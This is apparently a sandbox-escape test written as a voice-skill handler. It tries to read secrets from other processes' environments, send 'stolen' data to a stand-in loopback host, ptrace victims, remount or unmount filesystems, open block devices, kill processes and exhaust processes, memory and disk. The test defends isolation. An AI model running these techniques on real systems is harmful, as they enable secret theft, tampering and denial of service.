"""A skill that tries to get out: each attack returns what it reached, or raises.

It answers with a JSON object of attacks and their outcomes as its speech. `TARGETS` in its
environment names what it is after; everything there is planted by the test.
"""

import ctypes
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

TARGETS = json.loads(os.environ["TARGETS"])
KEY = "".join(TARGETS["key"])
LIBC = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result != 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def processes():
    return [int(entry) for entry in os.listdir("/proc") if entry.isdigit()]


def parent_environment():
    """Read the environment of whoever started this process, and of everybody else."""
    for pid in processes():
        try:
            content = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            continue
        if KEY.encode() in content:
            return f"the key is in the environment of process {pid}"
    raise LookupError("no process has the key")


def own_environment():
    if KEY in str(dict(os.environ)):
        return "the key was inherited"
    raise LookupError("the key is not here")


def other_processes():
    for pid in processes():
        try:
            line = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if TARGETS["victim_mark"].encode() in line:
            return f"process {pid} is seen"
    raise LookupError("the process is not seen")


def inherited_files():
    leaks = [
        os.readlink(f"/proc/self/fd/{fd}")
        for fd in range(3, 20)
        if os.path.lexists(f"/proc/self/fd/{fd}")
    ]
    leaks = [
        leak
        for leak in leaks
        if leak.startswith(("socket:", "pipe:", "/")) and "/proc/" not in leak
    ]
    if leaks:
        return f"open files: {leaks}"
    raise LookupError("no other file is open")


def other_host():
    """Connect without the module `socket`, which is guarded."""
    script = (
        "import socket; s = socket.create_connection(('127.0.0.2', "
        f"{TARGETS['port']}), 2); print(s.recv(20).decode())"
    )
    return run([sys.executable, "-S", "-c", script])


def loopback():
    with socket.create_connection(("127.0.0.1", TARGETS["port"]), 2) as connection:
        return connection.recv(20).decode()


def datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"stolen", ("127.0.0.2", TARGETS["udp_port"]))
        sender.settimeout(0.3)
        return sender.recv(20).decode()


def unix_socket():
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(TARGETS["unix"])
        return connection.recv(20).decode()


def abstract_socket():
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + TARGETS["abstract"])
        return connection.recv(20).decode()


def read_secret():
    return Path(TARGETS["secret"]).read_text()


def write_home():
    Path(TARGETS["home"], ".profile").write_text("stolen")
    return "written"


def write_beside():
    Path(TARGETS["beside"], "planted.txt").write_text("stolen")
    return "written"


def write_skill():
    Path(TARGETS["skill"], "planted.txt").write_text("stolen")
    return "written"


def write_temporary():
    Path(TARGETS["temporary"]).write_text("stolen")
    return "written"


def write_shared_memory():
    Path(TARGETS["shared_memory"]).write_text("stolen")
    return "written"


def delete():
    Path(TARGETS["beside"], "precious.txt").unlink()
    return "deleted"


def write_kernel_setting():
    path = Path("/proc/sys/vm/overcommit_ratio")
    path.write_text(path.read_text())
    return "written"


def write_cgroup():
    place = Path("/sys/fs/cgroup", TARGETS["victim_mark"])
    place.mkdir()
    place.rmdir()
    return "a control group was made"


def block_device():
    for name in os.listdir("/sys/class/block"):
        major, minor = Path(f"/sys/class/block/{name}/dev").read_text().split(":")
        for path in (f"/dev/{name}", f"/tmp/{name}"):
            try:
                if not os.path.exists(path):
                    os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(int(major), int(minor)))
                with open(path, "rb") as file:
                    if content := file.read(512):
                        return f"{len(content)} bytes of {path}"
            except OSError:
                continue
            finally:
                if path.startswith("/tmp/") and os.path.lexists(path):
                    os.unlink(path)
    raise PermissionError("no block device opens")


def kill_victim():
    os.kill(TARGETS["victims"][0], signal.SIGKILL)
    return "killed"


def kill_parent():
    """Stop whoever started this, for a moment: a signal that the test survives."""
    os.kill(TARGETS["sparring"], signal.SIGCONT)
    return "the test's process takes signals"


def ptrace_attach():
    LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    checked(LIBC.ptrace(16, TARGETS["victims"][1], None, None))
    LIBC.ptrace(17, TARGETS["victims"][1], None, None)
    return "attached"


def read_memory():
    with open(f"/proc/{TARGETS['victims'][1]}/mem", "rb") as file:
        return f"opened, {file.fileno()}"


def remount():
    LIBC.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_char_p]
    path = TARGETS["beside"]
    checked(LIBC.mount(b"none", path.encode(), b"tmpfs", 0, None))
    LIBC.umount2(path.encode(), 2)
    return "mounted"


def unmount():
    """Take off whatever hides a folder; a bare system has nothing there."""
    for path in (TARGETS["home"], "/tmp", "/run", "/proc"):
        checked(LIBC.umount2(path.encode(), 2))
    return "unmounted"


def nested_namespaces():
    """Become root in namespaces of one's own, and undo mounts there."""
    script = f"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
assert libc.unshare(0x10000000 | 0x00020000) == 0, "no namespace"
def undo(path):
    libc.umount2(path.encode(), 2)
    libc.mount(None, path.encode(), None, 32 | 4096, None)
for path in ({TARGETS["home"]!r}, "/tmp", "/"):
    undo(path)
try:
    print(open({TARGETS["secret"]!r}).read())
except OSError:
    open({os.path.join(TARGETS["beside"], "planted.txt")!r}, "w").write("stolen")
    print("written")
"""
    return run([sys.executable, "-S", "-c", script])


def host_name():
    name = socket.gethostname().encode()
    checked(LIBC.sethostname(name, len(name)))
    return "set"


def shared_segment():
    """Find a System V segment of another process."""
    LIBC.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    if LIBC.shmget(TARGETS["segment"], 0, 0) < 0:
        raise OSError(ctypes.get_errno(), "no such segment")
    return "found"


def daemons():
    """Start processes that leave their parent, its group and its session."""
    script = (
        "import os, time\n"
        "if os.fork(): os._exit(0)\n"
        "os.setsid()\n"
        "if os.fork(): os._exit(0)\n"
        "os.closerange(0, 3)\n"
        "time.sleep(60)\n"
    )
    subprocess.Popen(
        [sys.executable, "-S", "-c", script, TARGETS["daemon_mark"]], start_new_session=True
    ).wait()
    return "started"


def many_processes():
    """More processes than any skill needs."""
    started = 0
    for _ in range(700):
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        started += 1
    return f"{started} processes"


def memory():
    """Three GiB that are really there."""
    blocks = []
    for _ in range(48):
        block = bytearray(64 << 20)
        block[::4096] = b"x" * (len(block) // 4096)
        blocks.append(block)
    return f"{sum(map(len, blocks)) >> 20} MiB"


def memory_of_children():
    """Three GiB, a little in each process."""
    pids = []
    for _ in range(8):
        pid = os.fork()
        if pid == 0:
            block = bytearray(400 << 20)
            block[::4096] = b"x" * (len(block) // 4096)
            time.sleep(3)
            os._exit(0)
        pids.append(pid)
    codes = [os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in pids]
    if any(codes):
        raise MemoryError(f"children ended with {codes}")
    return "3,200 MiB"


def disk():
    """A file of one GiB and a half in the folder for temporary files."""
    path = "/tmp/" + TARGETS["victim_mark"]
    try:
        with open(path, "wb") as file:
            for _ in range(24):
                file.write(b"x" * (64 << 20))
        return "1.5 GiB"
    finally:
        os.unlink(path)


def run(command):
    """What a program prints; a failure raises."""
    ended = subprocess.run(command, capture_output=True, text=True, timeout=10)
    if ended.returncode or not ended.stdout.strip():
        raise OSError((ended.stderr.strip().splitlines() or ["nothing printed"])[-1])
    return ended.stdout.strip()


def lambda_handler(event, context):
    outcomes = {}
    for name in TARGETS["attacks"]:
        try:
            outcomes[name] = ["escaped", str(globals()[name]())[:200]]
        except Exception as err:
            outcomes[name] = ["held", f"{type(err).__name__}: {err}"[:200]]
    speech = {"type": "PlainText", "text": json.dumps(outcomes)}
    return {"version": "1.0", "response": {"outputSpeech": speech, "shouldEndSession": False}}
